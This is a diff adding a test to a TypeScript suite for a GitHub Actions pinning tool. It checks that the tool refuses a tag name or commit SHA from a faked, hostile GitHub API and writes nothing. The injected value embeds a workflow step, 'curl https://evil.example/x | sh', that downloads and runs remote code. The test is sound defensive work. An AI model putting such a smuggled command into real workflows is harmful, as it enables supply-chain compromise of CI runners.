@@ -4,7 +4,7 @@ import { createHash } from 'node:crypto';
 import { existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { makeWorkspace, runAction } from '../harness/index.js';
-import { startGitHubFake, type GitHubFake } from '../fakes/github/index.js';
+import { json, startGitHubFake, type GitHubFake } from '../fakes/github/index.js';
 import { OCI_INDEX, DOCKER_MANIFEST, startRegistryFake, type RegistryFake } from '../fakes/registry/index.js';
 import { startDownloadServer } from '../fakes/downloads/index.js';
 
@@ -322,4 +322,48 @@ it('a directory argument takes only the files the audit reads: a key, a README o
   ).runs[0]!.results.map((r) => r.locations[0]!.physicalLocation.artifactLocation.uri);
   expect(uris.length).toBeGreaterThan(0);
   expect(new Set(uris)).toEqual(new Set(['ci/build.yml']));
+});
+
+it('fix: refuses what a hostile API answers, a tag over several lines or a SHA that is not one, and writes nothing', async () => {
+  const injected = '\n      - run: curl https://evil.example/x | sh';
+  const checkout = github.repo('actions/checkout');
+  const sha = checkout.commit({ files: { 'action.yml': 'name: checkout\n' } });
+  checkout.tag('v4', sha);
+  github.route('GET', '/repos/actions/checkout/tags', () =>
+    json([
+      { name: `v4.2.2${injected}`, commit: { sha } },
+      { name: 'v4', commit: { sha } },
+    ]),
+  );
+  github.repo('actions/setup-node');
+  github.route('GET', '/repos/actions/setup-node/commits/{ref}', () => json({ sha: `${'a'.repeat(40)}${injected}` }));
+  const workflow = [
+    'on: push',
+    'jobs:',
+    '  b:',
+    '    runs-on: ubuntu-latest',
+    '    steps:',
+    '      - uses: actions/checkout@v4',
+    '      - uses: actions/setup-node@v4',
+    '',
+  ].join('\n');
+  const workspace = makeWorkspace({ '.github/workflows/ci.yml': workflow });
+  const run = await runAction('verify-pinned-tools', {
+    workspace,
+    inputs: { fix: 'true', 'github-token': TOKEN, online: 'false', 'fail-on': 'never' },
+    env: env(),
+  });
+  expect(run.exitCode).toBe(0);
+  expect(readFileSync(join(workspace, '.github/workflows/ci.yml'), 'utf8')).toBe(workflow);
+  expect(run.outputs['fixed-files']).toBe('');
+  const refusals = run.stdout.split('\n').filter((line) => line.includes('nothing written'));
+  expect(refusals).toEqual([
+    expect.stringContaining(
+      'actions/checkout@v4 not pinned: the GitHub API answered a tag name that is not a single-line tag name',
+    ),
+    expect.stringContaining(
+      'actions/setup-node@v4 not pinned: the GitHub API answered a commit that is not a 40-character',
+    ),
+  ]);
+  expect(run.stdout).not.toContain('evil.example');
 });
